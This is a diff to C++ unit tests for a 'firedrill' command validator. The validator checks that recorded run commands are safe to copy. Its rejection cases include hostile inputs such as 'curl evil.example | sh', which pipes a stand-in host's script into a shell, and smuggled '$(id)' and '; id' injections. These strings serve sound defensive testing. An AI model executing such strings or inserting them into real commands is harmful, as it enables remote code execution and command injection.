@@ -75,7 +75,7 @@ TEST(RecordJson, NamesThePathOfWhatIsWrong) {
 TEST(RecordJson, MayNotSayWhatItsResultsDoNot) {
   const std::string text = write_record(judged());
   EXPECT_EQ(first_error(changed(text, "\"command\": \"firedrill run", "\"command\": \"curl evil.example | sh; run")),
-            "command: expected a `firedrill run`");
+            "command: expected a `firedrill run` or `firedrill test scenarios`");
   EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"fail\"")),
             "verdict: 'fail', where 'pass' follows from the expectations and faults");
 }
@@ -207,12 +207,32 @@ TEST(RecordChecks, NameWhatContradictsItself) {
 TEST(RunCommands, AreWhatPeopleMayCopy) {
   for (const char* good :
        {"firedrill run shop --seed 1", "firedrill run scenarios/shop --seed 18446744073709551615 --keep none",
-        "firedrill run 'it'\\''s a shop' --seed 3 --scrape-phase aligned --promql-version 3.5"}) {
+        "firedrill run 'it'\\''s a shop' --seed 3 --scrape-phase aligned --promql-version 3.5",
+        "firedrill run shops/shop --seed 1 --root .", "firedrill run shop --seed 1 --root . --promql-version 2",
+        "firedrill test scenarios shop --seed 2 --rules rules/a.yaml '../its rules/b.yaml' --promql-version 2"}) {
     EXPECT_TRUE(is_run_command(good)) << good;
   }
-  for (const char* bad : {"", "firedrill report x", "firedrill run ", "firedrill run $(id) --seed 1",
-                          "firedrill run a; id", "firedrill run a --seed 1; id", "firedrill run a --out /etc",
-                          "firedrill run 'a' | sh", "firedrill run 'a", "firedrill run a --seed "}) {
+  for (const char* bad : {"",
+                          "firedrill report x",
+                          "firedrill run ",
+                          "firedrill run $(id) --seed 1",
+                          "firedrill run a; id",
+                          "firedrill run a --seed 1; id",
+                          "firedrill run a --out /etc",
+                          "firedrill run 'a' | sh",
+                          "firedrill run 'a",
+                          "firedrill run a --seed ",
+                          "firedrill run --allow-outside",
+                          "firedrill run '--allow-outside' --seed 1",
+                          "firedrill run a --root ..",
+                          "firedrill run a --root /",
+                          "firedrill run a --root ./b",
+                          "firedrill run a --allow-outside",
+                          "firedrill run a --rules b.yaml",
+                          "firedrill test scenarios a --rules",
+                          "firedrill test scenarios a --rules b; id",
+                          "firedrill test scenarios a b --seed 1",
+                          "firedrill test scenarios a --rules b --out /etc"}) {
     EXPECT_FALSE(is_run_command(bad)) << bad;
   }
 }
